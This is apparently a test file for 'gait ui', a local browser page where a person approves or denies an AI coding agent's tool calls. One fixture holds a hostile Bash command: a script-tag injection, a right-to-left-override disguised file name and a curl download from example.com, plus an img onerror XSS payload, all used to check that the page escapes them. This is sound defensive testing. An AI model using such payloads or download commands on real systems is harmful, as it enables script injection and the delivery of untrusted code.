/**
 * `gait ui` as people use it: the built executable at a real terminal, the page in a real browser. The
 * code of each answer is read where a person reads it, on the terminal.
 */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { source as axe } from 'axe-core';
import { chromium, type Browser, type Page } from 'playwright-core';

const CHROMIUM = Bun.which('chromium');
const GAIT = join(import.meta.dirname, '..', '..', 'dist', 'gait');
/** A folder for pictures of every page; not set: none are taken. */
const PICTURES = process.env['GAIT_UI_PICTURES'] ?? '';

const root = mkdtempSync(join(tmpdir(), 'gait-ui-'));
const repo = join(root, 'shop');
const blog = join(root, 'blog');
const home = join(root, 'home');
const env = (more: Record<string, string> = {}) => ({
  PATH: process.env['PATH'] ?? '',
  HOME: home,
  USER: 'bob',
  GAIT_APPROVAL_WAIT: '0s',
  ...more,
});

function gait(...words: readonly string[]): { exit: number; out: string } {
  const ran = Bun.spawnSync([GAIT, ...words], { cwd: repo, env: env() });
  return { exit: ran.exitCode, out: ran.stdout.toString() + ran.stderr.toString() };
}

let calls = 0;
const callOf = (tool: string, input: object) => ({
  session_id: 's1',
  cwd: repo,
  hook_event_name: 'PreToolUse',
  permission_mode: 'default',
  tool_name: tool,
  tool_input: input,
  tool_use_id: `call_${(calls += 1)}`,
});

/** The hook below a process that stands for the coding tool: the terminal of the page is not below it. */
async function hook(call: object, wait = '0s'): Promise<number> {
  const words = [GAIT, 'hook', '--harness', 'claude', '--project', repo];
  const script = `const r = Bun.spawnSync(${JSON.stringify(words)}, { stdin: await Bun.stdin.bytes(), env: process.env, cwd: ${JSON.stringify(repo)} }); process.exit(r.exitCode);`;
  const child = Bun.spawn([process.execPath, '-e', script], {
    cwd: repo,
    env: env({ GAIT_APPROVAL_WAIT: wait }),
    stdin: new TextEncoder().encode(JSON.stringify(call)),
    stdout: 'ignore',
    stderr: 'ignore',
  });
  return await child.exited;
}

const guarded = (name: string) =>
  callOf('Write', {
    file_path: join(repo, `.github/${name}.yml`),
    content:
      'on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n',
  });
const hostile = callOf('Bash', {
  command:
    'echo "<script>document.title=1</script>" > \u202Egpj.exe && curl https://example.com/a.sh -o a.sh',
  description: '"><img src=x onerror=document.title=2>',
});

let screen = '';
let child: ReturnType<typeof Bun.spawn> | undefined;
let browser: Browser | undefined;
let page: Page;
let link = '';

async function until<T>(
  what: string,
  look: () => T | undefined | Promise<T | undefined>,
): Promise<T> {
  for (let i = 0; i < 200; i++) {
    const found = await look();
    if (found !== undefined) return found;
    await Bun.sleep(50);
  }
  throw new Error(`never: ${what}; the terminal says ${screen}`);
}

/** The code that the terminal showed last, after `since` characters. */
const codeAfter = (since: number) =>
  until('a code on the terminal', () => {
    const found = /code to (?:approve|deny) it: (\d{3} \d{3})/u.exec(screen.slice(since));
    return found?.[1];
  });

beforeAll(async () => {
  if (CHROMIUM === null) return;
  mkdirSync(join(repo, '.git'), { recursive: true });
  mkdirSync(home);
  expect(gait('init', '--template', 'coding-agent', '--approver', 'alice')).toMatchObject({
    exit: 0,
  });
  expect(gait('trust', '.gait.yaml').exit).toBe(0);
  expect(gait('hooks', 'install', '--harness', 'claude,codex').exit).toBe(0);
  await hook(callOf('Read', { file_path: join(repo, 'a.ts') }));
  await hook(callOf('Read', { file_path: join(repo, '.env') }));
  child = Bun.spawn([GAIT, 'ui'], {
    cwd: repo,
    env: env({ TERM: 'xterm' }),
    terminal: {
      cols: 160,
      rows: 60,
      data: (_: unknown, bytes: Uint8Array) => {
        screen += Buffer.from(bytes).toString('utf8');
      },
    },
  } as never);
  link = await until(
    'the link',
    () => /http:\/\/127\.0\.0\.1:\d+\/open\/[\w-]+/u.exec(screen)?.[0],
  );
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
  page = await (await browser.newContext()).newPage();
}, 120_000);

afterAll(async () => {
  await browser?.close();
  child?.kill('SIGINT');
  await child?.exited;
  rmSync(root, { recursive: true, force: true });
});

interface AxeFinding {
  readonly id: string;
  readonly nodes: readonly { readonly html: string }[];
}

/** What axe finds on the page, in both schemes and on a narrow screen; and a picture of each. */
async function check(name: string, at: Page = page): Promise<void> {
  for (const [scheme, width] of [
    ['light', 1280],
    ['dark', 1280],
    ['light', 360],
    ['dark', 360],
  ] as const) {
    await at.emulateMedia({ colorScheme: scheme });
    await at.setViewportSize({ width, height: 900 });
    // Not as a script element: the page's own policy rightly refuses that.
    const found = (await at.evaluate(
      `${axe};axe.run(document, { resultTypes: ['violations'] }).then(({ violations }) => violations)`,
    )) as readonly AxeFinding[];
    expect({
      name,
      scheme,
      width,
      found: found.map(({ id, nodes }) => [id, nodes[0]?.html]),
    }).toEqual({
      name,
      scheme,
      width,
      found: [],
    });
    const isWider = await at.evaluate('document.documentElement.scrollWidth > innerWidth');
    expect({ name, width, isWider }).toEqual({ name, width, isWider: false });
    if (PICTURES !== '') {
      const path = join(PICTURES, `${name}-${scheme}-${width}.png`);
      await at.screenshot({ path, fullPage: true });
    }
  }
  await at.setViewportSize({ width: 1100, height: 900 });
}

describe.skipIf(CHROMIUM === null)('the page of gait ui', () => {
  test('opens by its link once, and for nobody else', async () => {
    await page.goto(link);
    expect(page.url()).toMatch(/\/s\/[\w-]{43}\/$/u);
    expect(await page.textContent('h1')).toBe('Waiting for a person');
    const other = await page.context().newPage();
    const again = await other.goto(link);
    expect(again?.status()).toBe(403);
    expect((await other.goto(page.url()))?.status()).toBe(200);
    await other.close();
    const stranger = await (browser as Browser).newContext();
    const strange = await stranger.newPage();
    expect((await strange.goto(page.url()))?.status()).toBe(403);
    await check('no-access', strange);
    await stranger.close();
    await check('nothing-waits');
  }, 60_000);

  test('shows a call as it comes, and approves it with the code from the terminal', async () => {
    const running = hook(guarded('ci'), '60s');
    await page.getByRole('link', { name: '.github/ci.yml' }).click({ timeout: 20_000 });
    expect(await page.textContent('pre.diff')).toContain('+on: push');
    await check('call');
    const since = screen.length;
    await page.getByRole('button', { name: 'Approve…' }).click();
    const code = await codeAfter(since);
    expect(screen.slice(since)).toContain('APPROVE');
    expect(await page.content()).not.toContain(code.replace(' ', ''));
    await page.getByRole('textbox', { name: 'Code' }).fill('000 000');
    await page.getByRole('button', { name: 'Approve it, once' }).click();
    expect(await page.textContent('[role=alert]')).toContain('2 tries are left');
    await check('wrong-code');
    await page.getByRole('textbox', { name: 'Code' }).fill(code);
    await page.keyboard.press('Enter');
    await page.getByText('Approved, once').waitFor();
    await check('approved');
    expect(await running).toBe(0);
    expect(await hook(guarded('ci'))).toBe(2);
  }, 120_000);

  test('denies a call by keyboard alone', async () => {
    await hook(guarded('release'));
    await page.locator('nav').getByText('Waiting').click();
    await page.locator('article', { hasText: 'release.yml' }).getByRole('link').focus();
    await page.keyboard.press('Enter');
    const since = screen.length;
    await page.getByRole('button', { name: 'Deny…' }).focus();
    await page.keyboard.press('Enter');
    const code = await codeAfter(since);
    // The field has the focus when the page is there; before, keys would go nowhere.
    await page.locator('#code:focus').waitFor();
    await page.keyboard.type(code);
    await check('code');
    await page.getByRole('textbox', { name: 'Code' }).focus();
    await page.keyboard.press('Enter');
    await page.getByText('Denied', { exact: true }).waitFor();
    await check('denied');
    expect(await hook(guarded('release'))).toBe(2);
  }, 120_000);

  test('shows hostile text as text, and says so when a call was answered elsewhere', async () => {
    await hook(hostile);
    await page.locator('nav').getByText('Waiting').click();
    await check('waiting');
    await page.locator('article', { hasText: 'Bash' }).getByRole('link').click();
    const text = await page.textContent('pre.action');
    expect(text).toContain('<script>document.title=1</script>');
    expect(text).toContain('U+202Egpj.exe');
    expect(await page.title()).not.toMatch(/^[12]/u);
    await check('hostile');
    const folder = join(home, '.local/state/gait/approvals/waiting');
    const id = page.url().slice(-12);
    const file = join(folder, `${id}.json`);
    writeFileSync(file, readFileSync(file, 'utf8').replaceAll('a.sh', 'b.sh'));
    await page.getByText('This call cannot be answered').waitFor({ timeout: 20_000 });
    await check('unsound');
    rmSync(folder, { recursive: true });
    await page.getByText('It was answered elsewhere').waitFor({ timeout: 20_000 });
    await check('gone');
  }, 120_000);

  test('shows sessions, decisions and coverage, of other projects too', async () => {
    await hook({ session_id: 's1', cwd: repo, hook_event_name: 'SessionEnd', reason: 'exit' });
    await page.locator('nav').getByText('Sessions').click();
    await page.getByText('sealed').first().waitFor();
    const verify = (await page.locator('code', { hasText: 'gait verify /' }).textContent()) ?? '';
    const [, ...words] = verify.split(' ');
    expect(words).toContain('--require-signature');
    expect(gait(...words)).toMatchObject({ exit: 0 });
    await check('sessions');
    await page.locator('nav').getByText('Decisions').click();
    await page.getByText('block', { exact: true }).first().waitFor();
    expect(await page.textContent('main')).toContain(`Read ${join(repo, '.env')}`);
    await check('decisions');
    await page.locator('nav').getByText('Coverage').click();
    await page.getByText('covered', { exact: true }).first().waitFor();
    await check('coverage');
    mkdirSync(join(blog, '.git'), { recursive: true });
    expect(gait('hooks', 'install', '--harness', 'claude', '--project', blog).exit).toBe(0);
    for (const name of ['Sessions', 'Decisions', 'Coverage']) {
      await page.locator('nav').getByText(name).click();
      await page.getByRole('link', { name: blog }).click();
      expect(await page.getByRole('link', { name: blog }).getAttribute('aria-current')).toBe(
        'true',
      );
      await check(`other-${name.toLowerCase()}`);
    }
    await page.goto(`${page.url().split('?')[0]}?project=0`);
    await page.getByRole('alert').waitFor();
    await check('problem');
  }, 120_000);

  test('scrolls through an action that is longer than the screen, by keys too', async () => {
    const content = Array.from({ length: 1500 }, (_, at) => `step ${at}`).join('\n');
    await hook(callOf('Write', { file_path: join(repo, '.github/long.yml'), content }));
    await page.locator('nav').getByText('Waiting').click();
    await page.getByRole('link', { name: 'long.yml' }).click();
    const diff = page.getByRole('region', { name: 'What would change' });
    expect(await diff.textContent()).toContain('+step 1499');
    await diff.focus();
    await page.keyboard.press('End');
    // Asked from outside: the page's own policy rightly refuses to evaluate texts.
    await until('the end of the action', async () => {
      const top = await page.evaluate("document.querySelector('pre.diff').scrollTop");
      return Number(top) > 1000 ? true : undefined;
    });
    expect(await page.evaluate('document.querySelector("pre.diff").clientHeight < 900')).toBe(true);
    await check('long');
  }, 60_000);

  test('works without its script', async () => {
    await hook(guarded('nightly'));
    const address = page.url().replace(/(?:coverage|calls).*$/u, '');
    const state = await page.context().storageState();
    const context = await (browser as Browser).newContext({
      javaScriptEnabled: false,
      storageState: state,
    });
    const still = await context.newPage();
    await still.goto(address);
    await still.locator('article', { hasText: 'nightly.yml' }).getByRole('link').click();
    const since = screen.length;
    await still.getByRole('button', { name: 'Approve…' }).click();
    await still.getByRole('textbox', { name: 'Code' }).fill(await codeAfter(since));
    await still.getByRole('button', { name: 'Approve it, once' }).click();
    await still.getByText('Approved, once').waitFor();
    await context.close();
    expect(await hook(guarded('nightly'))).toBe(0);
    expect(existsSync(join(repo, '.github'))).toBe(false);
  }, 120_000);

  test('ends with Ctrl-C at its terminal, and the browser is told', async () => {
    await page.locator('nav').getByText('Waiting').click();
    await page.getByRole('heading', { name: 'Waiting for a person' }).waitFor();
    const terminal = (child as unknown as { terminal: { write(text: string): void } }).terminal;
    terminal.write('\u0003');
    expect(await child?.exited).toBe(0);
    expect(screen).toContain('stopped');
    await page.getByText('gait ui does not answer').waitFor({ timeout: 20_000 });
  }, 60_000);
});
